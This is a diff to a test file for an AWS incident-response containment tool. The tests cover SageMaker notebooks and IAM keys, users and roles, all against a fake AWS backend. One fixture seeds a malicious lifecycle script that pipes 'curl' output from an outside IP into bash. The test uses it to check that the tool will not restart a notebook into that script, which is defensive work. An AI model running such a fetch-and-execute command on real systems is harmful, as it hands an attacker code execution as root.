@@ -8,6 +8,7 @@ import { join } from 'node:path';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
 import { ContainResultDocumentSchema, ManifestSchema } from '../../src/core/contain/documents.js';
 import { loadPlaybookFile } from '../../src/playbook/load.js';
+import { createSts } from '../fake-aws/services/sts.js';
 import { auditLog, contain, startWorld, writeCalls, type ContainWorld } from './contain-fake.js';
 
 // Each test spawns the binary a few times (about a second each, more on a busy machine).
@@ -286,6 +287,18 @@ describe('notebooks', () => {
     expect(writeCalls(w)).toEqual([]);
   });
 
+  it('disable-root-access never restarts into an attached lifecycle script unless --restart; the plan says why', async () => {
+    w.sm.seed.lifecycleConfig('evil-lcc', ['#!/bin/bash\ncurl -s http://203.0.113.45/x | bash\n']);
+    w.sm.seed.notebook('nb-lcc', { lifecycleConfigName: 'evil-lcc' });
+    w.sm.seed.notebook('nb-lcc-2', { lifecycleConfigName: 'evil-lcc' });
+    const dry = await contain(w, ['disable-root-access', 'nb-lcc', '--dry-run']);
+    expect(dry.stdout).toContain('kept: notebook/nb-lcc: left stopped: restarting would run the OnStart script of lifecycle configuration evil-lcc as root');
+    expect(outcomes(await apply(['disable-root-access', 'nb-lcc']))).toEqual(['StopNotebookInstance notebook/nb-lcc: ok', 'UpdateNotebookInstance notebook/nb-lcc: ok']);
+    expect(w.sm.state.notebooks.get('nb-lcc')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
+    expect(outcomes(await apply(['disable-root-access', 'nb-lcc-2', '--restart'], `${w.caseDir}-2`))).toContain('StartNotebookInstance notebook/nb-lcc-2: ok');
+    expect(w.sm.state.notebooks.get('nb-lcc-2')).toMatchObject({ status: 'InService', rootAccess: 'Disabled' });
+  });
+
   it('stop-notebook: InService -> Stopped; a stopped one is already done', async () => {
     w.sm.seed.notebook('nb1');
     w.sm.seed.notebook('nb2', { status: 'Stopped' });
@@ -416,6 +429,82 @@ describe('IAM', () => {
     expect(issued).toBeLessThanOrEqual(after);
   });
 
+  it("a role's attached managed policies are kept with their documents (GetPolicy, GetPolicyVersion)", async () => {
+    w.iam.seed.policy('arn:aws:iam::111122223333:policy/ci-deploy', { Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] });
+    w.iam.seed.role('Exec', { attached: ['arn:aws:iam::aws:policy/AmazonSageMakerFullAccess', 'arn:aws:iam::111122223333:policy/ci-deploy'] });
+    await apply(['quarantine-role', 'Exec']);
+    const version = evidenceFiles().find((f) => f.endsWith('GetPolicyVersion-ci-deploy-v1.json'))!;
+    const ev = JSON.parse(readFileSync(join(w.caseDir, 'evidence', version), 'utf8')) as { decodedPolicyDocuments: unknown[] };
+    expect(ev.decodedPolicyDocuments).toEqual([{ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: 'iam:PassRole', Resource: '*' }] }]);
+    expect(evidenceFiles().some((f) => f.endsWith('GetPolicyVersion-AmazonSageMakerFullAccess-v3.json'))).toBe(true);
+  });
+
+  it('deactivate-access-key: every Active key Inactive (never deleted), evidence of their last use; a re-run changes nothing', async () => {
+    w.iam.seed.user('ml-ci-deployer', {
+      keys: [{ id: 'AKIAIOSFODNN7EXAMPLE', status: 'Active', lastUsed: { date: '2026-11-27T09:12:00Z', service: 'sagemaker', region: 'us-east-1' } }, 'AKIAI44QH8DHBEXAMPLE'],
+      inline: new Map([['deploy', '{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"sagemaker:*","Resource":"*"}]}']]),
+      groups: ['ci'],
+    });
+    const r = await apply(['deactivate-access-key', 'arn:aws:iam::111122223333:user/ci/ml-ci-deployer']);
+    expect(outcomes(r)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: ok', 'UpdateAccessKey access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE: ok']);
+    expect(r.plans[0]!.steps.map((s) => s.permission)).toEqual(['iam:UpdateAccessKey', 'iam:UpdateAccessKey']);
+    expect(w.iam.state.users.get('ml-ci-deployer')!.keys.map((k) => k.status)).toEqual(['Inactive', 'Inactive']);
+    const lastUsed = evidenceFiles().find((f) => f.endsWith('GetAccessKeyLastUsed-AKIAIOSFODNN7EXAMPLE.json'))!;
+    expect(JSON.parse(readFileSync(join(w.caseDir, 'evidence', lastUsed), 'utf8')).response).toMatchObject({ UserName: 'ml-ci-deployer', AccessKeyLastUsed: { ServiceName: 'sagemaker', Region: 'us-east-1' } });
+    for (const op of ['GetUser', 'ListAccessKeys', 'GetUserPolicy-ml-ci-deployer-deploy', 'ListAttachedUserPolicies', 'ListGroupsForUser', 'GetPolicyVersion-AmazonSageMakerFullAccess']) {
+      expect(evidenceFiles().some((f) => f.includes(op)), op).toBe(true);
+    }
+    w.fake.stats.reset();
+    const again = await apply(['deactivate-access-key', 'ml-ci-deployer'], `${w.caseDir}-2`);
+    expect(outcomes(again)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: already-done', 'UpdateAccessKey access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE: already-done']);
+    expect(writeCalls(w)).toEqual([]);
+  });
+
+  it('deactivate-access-key --access-key-id: only that key; the user\'s other Active key is named as kept', async () => {
+    w.iam.seed.user('ml-ci-deployer', { keys: ['AKIAIOSFODNN7EXAMPLE', 'AKIAI44QH8DHBEXAMPLE'] });
+    const r = await apply(['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIAIOSFODNN7EXAMPLE']);
+    expect(outcomes(r)).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: ok']);
+    expect(r.plans[0]!.kept).toEqual([{ target: 'access-key/ml-ci-deployer/AKIAI44QH8DHBEXAMPLE', reason: expect.stringMatching(/^Active and not named/) }]);
+    expect(w.iam.state.users.get('ml-ci-deployer')!.keys.map((k) => k.status)).toEqual(['Inactive', 'Active']);
+    // Resumed from the saved plan: the end state holds, so no second UpdateAccessKey.
+    w.fake.stats.reset();
+    expect(outcomes(await apply(['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIAIOSFODNN7EXAMPLE']))).toEqual(['UpdateAccessKey access-key/ml-ci-deployer/AKIAIOSFODNN7EXAMPLE: already-done']);
+    expect(writeCalls(w)).toEqual([]);
+
+    const bad = await contain(w, ['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIA-nope', '--dry-run']);
+    expect(bad.code).toBe(2);
+    expect(bad.stderr).toContain("'AKIA-nope' is not a valid access key id");
+    const other = await contain(w, ['deactivate-access-key', 'ml-ci-deployer', '--access-key-id', 'AKIAZZZZZZZZZZEXAMPLE', '--yes', '--case', `${w.caseDir}-3`]);
+    expect(other.code).toBe(1);
+    expect(other.stderr).toContain('IAM user ml-ci-deployer has no access key AKIAZZZZZZZZZZEXAMPLE');
+  });
+
+  it('quarantine-user attaches the deny-all inline policy (it also ends the sessions its keys obtained); a re-run is already done', async () => {
+    w.iam.seed.user('ml-ci-deployer', { keys: ['AKIAIOSFODNN7EXAMPLE'] });
+    expect(outcomes(await apply(['quarantine-user', 'ml-ci-deployer']))).toEqual(['PutUserPolicy user/ml-ci-deployer: ok']);
+    const doc = JSON.parse(w.iam.state.users.get('ml-ci-deployer')!.inline.get('sm-ir-quarantine')!) as { Statement: unknown[] };
+    expect(doc.Statement).toEqual([expect.objectContaining({ Effect: 'Deny', Action: '*', Resource: '*' })]);
+    expect(outcomes(await apply(['quarantine-user', 'ml-ci-deployer'], `${w.caseDir}-2`))).toEqual(['PutUserPolicy user/ml-ci-deployer: already-done']);
+    expect(changes(`${w.caseDir}-2`)).toEqual(['PutUserPolicy:already-done']);
+  });
+
+  it('refuses to contain the role or user sm-ir runs as (exit 2, nothing changed) unless --allow-self', async () => {
+    w.iam.seed.role('IrResponder');
+    w.iam.seed.user('responder', { keys: ['AKIAIOSFODNN7EXAMPLE'] });
+    const asUser = await contain(w, ['deactivate-access-key', 'responder', '--yes', '--case', w.caseDir]);
+    expect(asUser.code).toBe(2);
+    expect(asUser.stderr).toContain('refusing to deactivate-access-key user responder: it is the user sm-ir is running as (arn:aws:iam::111122223333:user/responder)');
+    expect(asUser.stderr).toContain('--allow-self');
+    w.fake.register(createSts({ AKIAIOSFODNN7EXAMPLE: { arn: 'arn:aws:sts::111122223333:assumed-role/IrResponder/alice', userId: 'AROAEXAMPLEROLEID:alice' } }));
+    for (const action of ['revoke-sessions', 'quarantine-role']) {
+      const r = await contain(w, [action, 'arn:aws:iam::111122223333:role/IrResponder', '--yes', '--case', w.caseDir]);
+      expect(r.code, action).toBe(2);
+      expect(r.stderr).toContain(`refusing to ${action} role IrResponder: it is the role sm-ir is running as`);
+    }
+    expect(w.fake.stats.calls.map((c) => c.operation)).toEqual(['GetCallerIdentity', 'GetCallerIdentity', 'GetCallerIdentity']);
+    expect(outcomes(await apply(['revoke-sessions', 'IrResponder', '--allow-self']))).toEqual(['PutRolePolicy role/IrResponder: ok']);
+  });
+
   it('refuses a service-linked role before changing anything', async () => {
     w.iam.seed.role('AWSServiceRoleForAmazonSageMakerNotebooks', { path: '/aws-service-role/sagemaker.amazonaws.com/' });
     const r = await contain(w, ['quarantine-role', 'AWSServiceRoleForAmazonSageMakerNotebooks', '--yes', '--case', w.caseDir]);
@@ -475,7 +564,9 @@ describe('evidence and audit log', () => {
       expect(e.requestId).toMatch(/^[0-9a-f-]{36}$/);
     }
     expect(audit[0]).toMatchObject({ service: 'sts', operation: 'GetCallerIdentity', outcome: 'ok', readOnly: true });
-    expect(audit.filter((e) => e.readOnly !== true).map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:ok', 'StartNotebookInstance:ok']);
+    // No restart: it would run the attached OnStart script (a reverse shell) again as root.
+    expect(audit.filter((e) => e.readOnly !== true).map((e) => `${e.operation}:${e.outcome}`)).toEqual(['StopNotebookInstance:ok', 'UpdateNotebookInstance:ok']);
+    expect(w.sm.state.notebooks.get('ds-forecasting')).toMatchObject({ status: 'Stopped', rootAccess: 'Disabled' });
     expect(audit.find((e) => e.operation === 'UpdateNotebookInstance')).toMatchObject({ service: 'sagemaker', parameters: { NotebookInstanceName: 'ds-forecasting', RootAccess: 'Disabled' }, error: null });
     // The waits are in it too: DescribeNotebookInstance polled until Stopped.
     expect(audit.filter((e) => e.operation === 'DescribeNotebookInstance').length).toBeGreaterThanOrEqual(3);
